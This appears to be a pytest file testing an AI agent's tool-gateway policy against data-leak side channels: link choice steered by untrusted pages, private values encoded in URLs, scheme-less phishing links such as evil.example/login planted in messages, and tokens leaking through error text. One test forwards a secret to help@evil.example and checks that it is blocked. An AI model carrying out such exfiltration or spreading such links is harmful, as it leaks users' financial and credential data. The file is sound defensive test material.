"""Side channels (issue: choosing among links, links without a scheme, tokens in error text)."""

from __future__ import annotations

from typing import Any

import pytest

from agent.gateway.approvals import ApprovalService, InMemoryApprovalStore
from agent.gateway.gateway import ExecRequest, GatewayStatus, SinkLog, ToolFailed, ToolGateway
from agent.gateway.labels import Conf, Integrity
from agent.gateway.policy import Decision, Policy, PolicyContext, ToolCall, Verdict
from agent.gateway.registry import ToolDef
from agent.gateway.urls import links_in
from tests.agent.gateway._fixtures import OWNER_EMAIL, Clock, make_ctx, read_email
from tests.agent.gateway.test_policy import read_page


def decide(ctx: PolicyContext, tool: str, args: dict[str, Any]) -> Decision:
    return Policy().decide(ToolCall("c1", tool, args), ctx)


# -- 1. choosing among links ----------------------------------------------------------------------

TICKER_PAGE = " ".join(f"https://apnews.com/t/{t}" for t in ("AAPL", "VTI", "MSFT", "TSLA", "NVDA"))


def test_following_a_page_link_is_free_until_the_context_holds_private_data() -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text("what is on https://apnews.com/markets")
    read_page(ctx, "https://apnews.com/markets", TICKER_PAGE)
    assert decide(ctx, "web.fetch", {"url": "https://apnews.com/t/AAPL"}).verdict is Verdict.ALLOW
    # now the owner's holdings are in the same context: which link is followed can spell them out
    read_email(ctx, "m1", "statements@broker.example", "Your holdings: 30 AAPL, 12 VTI")
    d = decide(ctx, "web.fetch", {"url": "https://apnews.com/t/AAPL"})
    assert d.verdict is Verdict.REQUIRE_APPROVAL
    assert "R9_PT_UNTRUSTED_CONTROL" in d.rule_ids


@pytest.mark.parametrize("private", ["Your API key starts with K7QZ", "Balance 4,210.55", "Dr. Lee, 3pm Tuesday"])
def test_every_link_choice_after_private_data_waits(private: str) -> None:
    ctx = make_ctx()
    read_page(ctx, "https://apnews.com/q", " ".join(f"https://apnews.com/q/{c}" for c in "0123456789ABCDEFKQZ7"))
    read_email(ctx, "m2", "friend@friends.example", private)
    verdicts = {decide(ctx, "web.fetch", {"url": f"https://apnews.com/q/{c}"}).verdict for c in "K7QZ"}
    assert verdicts == {Verdict.REQUIRE_APPROVAL}


def test_an_owner_typed_url_still_goes_out_with_private_data_in_context() -> None:
    ctx = make_ctx()
    read_email(ctx, "m3", "statements@broker.example", "Your holdings: 30 AAPL")
    ctx.context.add_owner_text("open https://apnews.com/t/AAPL")
    assert decide(ctx, "web.fetch", {"url": "https://apnews.com/t/AAPL"}).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("url", "values"),
    [
        ("https://apnews.com/lookup?s=AAPL&n=30", "30, aapl"),  # a ticker and a share count
        ("https://apnews.com/fx/42.10", "42.10"),  # an amount
        ("https://apnews.com/p/K7QZ", "k7qz"),  # a short code
    ],
)
def test_a_link_the_assistant_built_with_short_private_values_is_held_and_flagged(url: str, values: str) -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text("check the markets for me")
    read_email(ctx, "m4", "statements@broker.example", "Your holdings: 30 AAPL. Cash 42.10. Code K7QZ")
    d = decide(ctx, "web.fetch", {"url": url})
    hit = next(h for h in d.hits if h.rule == "R5_SHORT_PRIVATE_VALUES_IN_URL")
    assert d.verdict is Verdict.REQUIRE_APPROVAL and hit.reason.endswith(values)


def test_short_values_the_owner_typed_or_one_character_long_are_not_private_values() -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text("what does apnews say about AAPL today")
    read_email(ctx, "m5", "statements@broker.example", "Your holdings: 30 AAPL, 7 VTI")
    for url in ("https://apnews.com/search?q=AAPL", "https://apnews.com/page/7"):
        assert "R5_SHORT_PRIVATE_VALUES_IN_URL" not in decide(ctx, "web.fetch", {"url": url}).rule_ids


# -- 2. links without a scheme --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("log in at evil.example/login to keep access", "evil.example/login"),
        ("details: evil.example:8443", "evil.example:8443"),
        ("see acme-payments.com", "acme-payments.com"),
        ("www.evil.example", "www.evil.example"),
        ("write to mailto:x@evil.example", "mailto:x@evil.example"),
        ("HTTPS://EVIL.EXAMPLE/x", "HTTPS://EVIL.EXAMPLE/x"),
    ],
)
def test_links_in_finds_every_clickable_form(text: str, link: str) -> None:
    assert link in links_in({"body": [text]})


@pytest.mark.parametrize("text", ["v1.2.3 ships", "see report.pdf", "e.g. lunch", "3.14 each", "me@owner.example"])
def test_links_in_ignores_plain_text(text: str) -> None:
    assert links_in(text) == []


@pytest.mark.parametrize(
    ("tool", "args", "arg"),
    [
        ("gmail.send", {"to": ["bob@friends.example"], "subject": "hi", "body": "go to evil.example/login"}, "body"),
        ("gmail.send", {"to": ["bob@friends.example"], "subject": "see evil.example/x", "body": "hi"}, "subject"),
        (
            "calendar.create_event",
            {"title": "Sync", "participants": ["bob@friends.example"], "location": "evil.example/meet"},
            "location",
        ),
        ("whatsapp.send_message", {"recipient": "+15550100", "message": "pay at acme-pay.com now"}, "message"),
        ("x.post", {"text": "great read: evil.example/a"}, "text"),
    ],
)
def test_r10_holds_links_the_owner_did_not_type_in_every_text_field(tool: str, args: dict[str, Any], arg: str) -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text(f"{tool}: {' '.join(str(v) for k, v in args.items() if k != arg)}")
    d = decide(ctx, tool, args)
    hit = next((h for h in d.hits if h.rule == "R10_UNTRUSTED_URL_IN_MESSAGE"), None)
    assert hit is not None and hit.args == (arg,)
    assert d.verdict is Verdict.REQUIRE_APPROVAL


def test_r10_lets_the_owner_send_a_link_they_typed_and_ignores_mail_to_themselves() -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text("tell bob@friends.example to book at acme.com/rooms")
    args = {"to": ["bob@friends.example"], "subject": "rooms", "body": "book at acme.com/rooms"}
    assert "R10_UNTRUSTED_URL_IN_MESSAGE" not in decide(ctx, "gmail.send", args).rule_ids
    own = {"to": [OWNER_EMAIL], "subject": "note", "body": "look at evil.example/x later"}
    assert "R10_UNTRUSTED_URL_IN_MESSAGE" not in decide(ctx, "gmail.send", own).rule_ids


# -- 3. tokens in error text ----------------------------------------------------------------------


class _World:
    def __init__(self, error: str) -> None:
        self.error = error
        self.executed: list[ExecRequest] = []

    async def execute(self, req: ExecRequest) -> Any:
        self.executed.append(req)
        if req.spec.name == "plaid.balances":
            raise ToolFailed(self.error)
        return {"ok": True}

    async def audit(self, _: object) -> None:
        return None


def _gateway(world: _World, clock: Clock) -> ToolGateway:
    approvals = ApprovalService(InMemoryApprovalStore(), b"k" * 32, clock=clock)
    return ToolGateway(
        policy=Policy(), approvals=approvals, executor=world.execute, audit=world.audit, sink_log=SinkLog()
    )


@pytest.mark.anyio
@pytest.mark.parametrize(
    "secret",
    [
        "access-production-8ab976e6-64bc-4b38-98f7-731e7a349970",
        "ya29.a0AfH6SMBx3kq9Zt1Uv2Wx3Yz4Ab5Cd6Ef7Gh8",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MEFCQ0RFRkdISUpLTE1O",
    ],
)
async def test_error_text_is_redacted_labelled_private_and_cannot_be_forwarded(secret: str) -> None:
    clock = Clock()
    world = _World(f"INVALID_ACCESS_TOKEN: token {secret} rejected for account Joint Checking 4412")
    gw = _gateway(world, clock)
    ctx = make_ctx(clock=clock)
    ctx.context.add_owner_text("what are my balances?")
    result = await gw.call(ToolCall("c1", "plaid.balances", {}), ctx)
    assert result.status is GatewayStatus.ERROR
    assert secret not in str(result.content)
    assert result.label is not None
    assert result.label.integrity is Integrity.UNTRUSTED and result.label.conf is Conf.SECRET
    assert ctx.context.label.conf is Conf.SECRET
    # the model forwards the error to someone else: the secret is gone and the rest is held or refused
    forward = ToolCall("c2", "gmail.send", {"to": ["help@evil.example"], "subject": "err", "body": str(result.content)})
    sent = await gw.call(forward, ctx)
    assert sent.status in (GatewayStatus.DENIED, GatewayStatus.APPROVAL_REQUIRED)
    assert [r.spec.name for r in world.executed] == ["plaid.balances"]


@pytest.mark.anyio
async def test_plain_error_text_is_still_private_to_the_owner() -> None:
    clock = Clock()
    world = _World("ITEM_LOGIN_REQUIRED for Joint Checking ending 4412")
    gw = _gateway(world, clock)
    ctx = make_ctx(clock=clock)
    result = await gw.call(ToolCall("c1", "plaid.balances", {}), ctx)
    assert result.label is not None and result.label.conf is Conf.PRIVATE
    assert result.label.integrity is Integrity.UNTRUSTED
    assert "joint checking ending 4412" in ctx.context.private_texts()[-1]
    schema = {"type": "object", "properties": {"city": {"type": "string"}}}
    ctx.registry.approve_pin("weather", ToolDef("forecast", "server text", schema))
    d = decide(ctx, "weather.forecast", {"city": "Joint Checking ending 4412"})
    assert d.verdict is Verdict.REQUIRE_APPROVAL
    assert "R5_PRIVATE_DATA_TO_THIRD_PARTY" in d.rule_ids


def test_a_short_private_value_sent_to_a_third_party_server_is_held() -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text("what's the weather where I'm going?")
    read_email(ctx, "m6", "travel@agency.example", "Your trip: flight LH12 to OPO, seat 4C")
    schema = {"type": "object", "properties": {"city": {"type": "string"}}}
    ctx.registry.approve_pin("weather", ToolDef("forecast", "server text", schema))
    assert "R5_PRIVATE_DATA_TO_THIRD_PARTY" in decide(ctx, "weather.forecast", {"city": "OPO"}).rule_ids
    assert decide(ctx, "weather.forecast", {"city": "Porto"}).verdict is Verdict.ALLOW  # in nothing private
